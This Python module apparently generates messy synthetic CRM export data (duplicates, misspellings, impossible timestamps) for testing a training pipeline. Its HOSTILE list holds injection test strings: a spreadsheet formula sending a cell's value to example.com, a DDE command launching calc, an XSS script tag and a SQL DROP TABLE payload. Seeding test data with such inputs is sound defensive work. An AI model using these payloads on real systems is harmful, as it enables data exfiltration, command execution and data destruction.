"""What real exports look like: copies, strange spelling, impossible times, and text that attacks
whoever opens it.

Mess never changes the truth. Leads whose own creation or close is spoilt are left out of it, and
only leads without a colleague are spoilt, so that nobody else's features move when they are put
aside.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from training.simulate.behaviour import EventKind, Stream
from training.simulate.company import NEVER, Calendar, Ints, Moments
from training.simulate.people import People
from training.simulate.tables import DAY, MOMENT, World, events_table, moments, names

COPIED_SHARE = 0.005  # events delivered twice
STRANGE_SPELLING_SHARE = 0.015  # of the values of each category typed by people
HOSTILE_SHARE = 0.002  # of the texts shown to people
SPOILT_SHARE = 0.0005  # of the leads, for each kind of impossible time
AFTER_CLOSE_SHARE = 0.05  # of the won leads without colleagues: they come back to read the manual
STRAY_EVENTS = 1000  # one event of an unknown lead, and one without a time, per so many events

HOSTILE = (
    '=HYPERLINK("http://example.com/?q="&A1,"open")',
    "<script>alert('lead')</script>",
    "Robert'); DROP TABLE leads;--",
    "🚀🚀 株式会社ロケット 🚀🚀",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'He said "5"" screen", then, left',
)
SPELLINGS = ("{upper}", " {text}", "{text} ", "-", "")
TYPED = ("業種", "job title", "region")
SHOWN = ("company", "campaign")


def add_mess(world: World, calendar: Calendar, people: People, won: Moments) -> World:
    """The same world as a real export would show it."""
    rng = world.company.random(4)
    unreadable, too_early, unclosed = _victims(rng, people)
    ids = world.leads["lead_id"].combine_chunks()
    without = ids.take(pa.array(np.concatenate([unreadable, too_early, unclosed])))
    return replace(
        world,
        leads=_misspelt(rng, _without_creation(world.leads, unreadable)),
        events=_spoilt_events(rng, calendar, world, people, won),
        outcomes=_impossible_closes(
            rng, world.outcomes, ids, moments(people.created), too_early, unclosed
        ),
        truth=world.truth.filter(pc.invert(pc.is_in(world.truth["lead_id"], without))),
    )


def _victims(rng: np.random.Generator, people: People) -> Sequence[Ints]:
    """Leads without a colleague, chosen whatever became of them: three groups, one for each
    impossible time.
    """
    alone = np.flatnonzero(people.alone)
    each = min(max(1, int(SPOILT_SHARE * len(people))), len(alone) // 10)
    return np.split(rng.permutation(alone)[: 3 * each], 3)


def _without_creation(leads: pa.Table, victims: Ints) -> pa.Table:
    is_victim = pa.array(np.isin(np.arange(len(leads)), victims))
    created = pc.if_else(is_victim, pa.scalar(None, MOMENT), leads["created_at"])
    return leads.set_column(leads.schema.get_field_index("created_at"), "created_at", created)


def _misspelt(rng: np.random.Generator, leads: pa.Table) -> pa.Table:
    """Categories as people type them, and texts that are dangerous to open."""
    for name in TYPED:
        leads = _rewritten(
            leads, name, np.flatnonzero(rng.random(len(leads)) < STRANGE_SPELLING_SHARE), SPELLINGS
        )
    for name in SHOWN:
        leads = _rewritten(
            leads, name, np.flatnonzero(rng.random(len(leads)) < HOSTILE_SHARE), HOSTILE
        )
    return leads


def _rewritten(leads: pa.Table, name: str, rows: Ints, patterns: Sequence[str]) -> pa.Table:
    """The table with these rows of a column written by the patterns, one after the other."""
    texts = leads[name].to_numpy().copy()
    for place, row in enumerate(rows):
        text = texts[row] or ""
        texts[row] = patterns[place % len(patterns)].format(text=text, upper=text.upper()) or None
    return leads.set_column(leads.schema.get_field_index(name), name, pa.array(texts, pa.string()))


def _spoilt_events(
    rng: np.random.Generator, calendar: Calendar, world: World, people: People, won: Moments
) -> pa.Table:
    """Copies, events of leads nobody knows, events without a time, and visits of customers to the
    manual.
    """
    events, n = world.events, len(world.events)
    copies = events.take(pa.array(np.flatnonzero(rng.random(n) < COPIED_SHARE)))
    strays = events.take(pa.array(rng.integers(0, n, n // STRAY_EVENTS)))
    unknown = _with(strays, "lead_id", names("X", len(strays)))
    timeless = _with(strays, "occurred_at", pa.nulls(len(strays), MOMENT))
    ids = world.leads["lead_id"].combine_chunks()
    manual = events_table(ids, _after_close(rng, calendar, people, won))
    mixed = pa.concat_tables([events, copies, unknown, timeless, manual])
    return mixed.take(pc.sort_indices(mixed["recorded_at"]))


def _with(table: pa.Table, name: str, values: pa.Array) -> pa.Table:
    return table.set_column(table.schema.get_field_index(name), name, values)


def _after_close(
    rng: np.random.Generator, calendar: Calendar, people: People, won: Moments
) -> Stream:
    """A page view some days after the close, of leads whose activity counts for nobody else."""
    chosen = (won < NEVER) & people.alone & (rng.random(len(people)) < AFTER_CLOSE_SHARE)
    moment = won + (rng.uniform(1, 30, len(people)) * DAY).astype(np.int64)
    chosen &= moment < calendar.observed_until - DAY
    lead, moment = np.flatnonzero(chosen), moment[chosen]
    return Stream(
        lead=lead.astype(np.int32),
        day=np.zeros(len(lead), np.int16),
        action=np.full(len(lead), EventKind.PRODUCT, np.int8),
        detail=np.zeros(len(lead), np.int8),
        value=np.full(len(lead), 60, np.int32),
        moment=moment,
        recorded=moment + 1000,
    )


def _impossible_closes(
    rng: np.random.Generator,
    outcomes: pa.Table,
    ids: pa.Array,
    created: pa.Array,
    early: Ints,
    unreadable: Ints,
) -> pa.Table:
    """Leads that closed before they came, and closes without a readable time, in place of the
    victims' own rows.
    """
    victims = np.concatenate([early, unreadable])
    n, is_early = len(victims), np.arange(len(victims)) < len(early)
    before = created.cast(pa.int64()).to_numpy()[victims] - rng.integers(1, 100, n) * DAY
    rows = pa.table(
        {
            "lead_id": ids.take(pa.array(victims)),
            "closed_at": moments(before, known=is_early),
            "won": pa.array(rng.random(n) < 0.5),
        }
    )
    others = outcomes.filter(pc.invert(pc.is_in(outcomes["lead_id"], rows["lead_id"])))
    return pa.concat_tables([others, rows], promote_options="default").sort_by("lead_id")
